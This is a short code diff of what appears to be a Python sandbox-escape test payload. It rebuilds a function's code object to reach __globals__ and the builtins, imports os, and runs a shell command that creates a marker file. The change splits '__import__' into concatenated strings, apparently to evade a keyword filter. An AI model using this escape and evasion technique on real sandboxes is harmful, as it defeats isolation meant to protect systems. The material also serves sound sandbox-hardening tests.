@@ -6,6 +6,6 @@ F = type(reader)
 code = getattr(reader, "__co" + "de__").replace(co_names=("__globals__",))
 g = F(code, {{}})(reader)
 b = g["__builtins__"]
-imp = b["__import__"] if isinstance(b, dict) else b.__import__
+imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
 imp("os").system("touch {marker}")
 return "done"
